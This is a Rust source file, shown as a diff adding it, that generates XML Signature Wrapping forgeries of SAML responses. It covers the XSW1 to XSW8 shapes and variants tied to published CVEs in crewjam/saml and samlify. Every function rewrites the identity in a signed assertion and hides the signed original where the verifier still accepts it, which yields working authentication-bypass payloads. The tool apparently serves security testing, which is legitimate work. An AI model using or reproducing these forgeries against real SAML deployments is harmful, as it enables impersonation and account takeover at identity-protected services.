@@ -1,0 +1,221 @@
+//! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
+//! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.
+
+use crate::bytes::{attr_value, before_end_tag, child, insert, splice, Doc, PROTOCOL_NS};
+use crate::family::{evil_id, forged, Parts};
+use crate::forge::{Forge, Forged, Skip};
+use crate::identity;
+
+fn parse<'a>(f: &Forge<'a>) -> Result<Doc<'a>, Skip> {
+    Doc::parse(f.seed)
+}
+
+/// Identity edits inside the Assertion, in place.
+fn forge_in_place(p: &Parts) -> (Vec<(std::ops::Range<usize>, String)>, identity::Swap) {
+    identity::rewrite_edits(p.doc, p.assertion.range(), &identity::target_of)
+}
+
+fn id_edit(node: crate::bytes::Node, id: &str) -> Result<(std::ops::Range<usize>, String), Skip> {
+    attr_value(node, "ID")
+        .map(|r| (r, id.to_owned()))
+        .ok_or_else(|| Skip("the signed element has no ID".into()))
+}
+
+/// XSW1: forged Response root; the original Response (unsigned) inside its Signature.
+pub fn xsw1(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_response_sig()?;
+    let original = p.response_unsigned();
+    let (mut edits, swap) = forge_in_place(&p);
+    let root_id = p.root.attribute("ID").unwrap_or_default();
+    edits.push(id_edit(p.root, &evil_id(root_id))?);
+    edits.push(insert(before_end_tag(doc.src, sig), original));
+    if let Some(s) = p.assertion_sig {
+        edits.push((s.range(), String::new()));
+    }
+    forged(splice(doc.src, edits), swap)
+}
+
+/// XSW2: as XSW1, the original Response detached before the Signature.
+pub fn xsw2(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_response_sig()?;
+    let original = p.response_unsigned();
+    let (mut edits, swap) = forge_in_place(&p);
+    let root_id = p.root.attribute("ID").unwrap_or_default();
+    edits.push(id_edit(p.root, &evil_id(root_id))?);
+    edits.push(insert(sig.range().start, original));
+    if let Some(s) = p.assertion_sig {
+        edits.push((s.range(), String::new()));
+    }
+    forged(splice(doc.src, edits), swap)
+}
+
+/// XSW3: a forged Assertion with a new ID inserted before the signed one.
+pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(Some(&evil_id(p.assertion_id())));
+    forged(
+        splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
+        swap,
+    )
+}
+
+/// XSW4: the forged Assertion wraps the original (signed) one as its last child.
+pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(Some(&evil_id(p.assertion_id())));
+    let at = evil.rfind("</").unwrap_or(evil.len());
+    let wrapped = format!("{}{}{}", &evil[..at], doc.outer(p.assertion), &evil[at..]);
+    forged(splice(doc.src, vec![(p.assertion.range(), wrapped)]), swap)
+}
+
+/// XSW5: the Assertion forged in place (new ID, Signature kept); an unsigned copy of the
+/// original appended at the end of the Response.
+pub fn xsw5(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (mut edits, swap) = forge_in_place(&p);
+    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    edits.push(insert(
+        before_end_tag(doc.src, p.root),
+        p.assertion_unsigned(),
+    ));
+    forged(splice(doc.src, edits), swap)
+}
+
+/// XSW6: as XSW5, the unsigned original copy inside the forged Assertion's Signature.
+pub fn xsw6(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let (mut edits, swap) = forge_in_place(&p);
+    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    edits.push(insert(before_end_tag(doc.src, sig), p.assertion_unsigned()));
+    forged(splice(doc.src, edits), swap)
+}
+
+/// XSW7: an unqualified `Extensions` before the signed Assertion holds a forged copy with the
+/// same ID.
+pub fn xsw7(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(None);
+    let wrapper = format!("<Extensions>{evil}</Extensions>");
+    forged(
+        splice(doc.src, vec![insert(p.assertion.range().start, wrapper)]),
+        swap,
+    )
+}
+
+/// XSW8: the Assertion forged in place (same ID, Signature kept); an unsigned copy of the
+/// original inside a `ds:Object` of the Signature.
+pub fn xsw8(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let (mut edits, swap) = forge_in_place(&p);
+    let object = format!(
+        "<ds:Object xmlns:ds=\"{}\">{}</ds:Object>",
+        crate::bytes::DSIG_NS,
+        p.assertion_unsigned()
+    );
+    edits.push(insert(before_end_tag(doc.src, sig), object));
+    forged(splice(doc.src, edits), swap)
+}
+
+/// The signed original moved into `samlp:StatusDetail`; the forged, unsigned one in its place.
+pub fn status_detail(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let status = child(p.root, PROTOCOL_NS, "Status")
+        .ok_or_else(|| Skip("the seed has no Status".into()))?;
+    let (mut edits, swap) = forge_in_place(&p);
+    edits.push((sig.range(), String::new()));
+    let detail = format!(
+        "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:StatusDetail>",
+        doc.outer(p.assertion)
+    );
+    edits.push(insert(before_end_tag(doc.src, status), detail));
+    forged(splice(doc.src, edits), swap)
+}
+
+/// The signed original nested in the `saml:Advice` of a forged, unsigned Assertion.
+pub fn advice(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let (mut edits, swap) = forge_in_place(&p);
+    edits.push((sig.range(), String::new()));
+    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    let at = child(p.assertion, crate::bytes::ASSERTION_NS, "Conditions")
+        .map_or_else(|| before_end_tag(doc.src, p.assertion), |c| c.range().end);
+    let advice = format!(
+        "<saml:Advice xmlns:saml=\"{}\">{}</saml:Advice>",
+        crate::bytes::ASSERTION_NS,
+        doc.outer(p.assertion)
+    );
+    edits.push(insert(at, advice));
+    forged(splice(doc.src, edits), swap)
+}
+
+/// Two assertions: the signed original first, a forged copy (`…_attack`) after it
+/// (crewjam/saml CVE-2022-41912: the first is verified, the last consumed).
+pub fn signed_first(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(Some(&format!("{}_attack", p.assertion_id())));
+    forged(
+        splice(doc.src, vec![insert(p.assertion.range().end, evil)]),
+        swap,
+    )
+}
+
+/// Two assertions: a forged copy with the same ID first, the signed original after it
+/// (samlify CVE-2025-47949 family; duplicate IDs).
+pub fn forged_first_same_id(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(None);
+    forged(
+        splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
+        swap,
+    )
+}
+
+/// Strips an XML declaration so a standalone document can be embedded.
+pub fn embeddable(xml: &str) -> &str {
+    let t = xml.trim_start_matches('\u{feff}').trim_start();
+    if t.starts_with("<?xml") {
+        t.find("?>").map_or(t, |i| t[i + 2..].trim_start())
+    } else {
+        t
+    }
+}
+
+/// A donor's valid Signature first in document order (inside `samlp:Extensions`), the
+/// Assertion forged and unsigned: for SPs that verify "the first Signature they find".
+pub fn donor_signature_first(f: &Forge) -> Result<Forged, Skip> {
+    let donor = embeddable(f.donor()?);
+    let doc = parse(f)?;
+    let (whole, swap) = crate::family::forge_document(&doc);
+    let unsigned = crate::family::strip_signatures(&whole)?;
+    let doc = Doc::parse(&unsigned)?;
+    let p = Parts::of(&doc)?;
+    let ext = format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{donor}</samlp:Extensions>");
+    forged(
+        splice(&unsigned, vec![insert(p.after_response_header(), ext)]),
+        swap,
+    )
+}
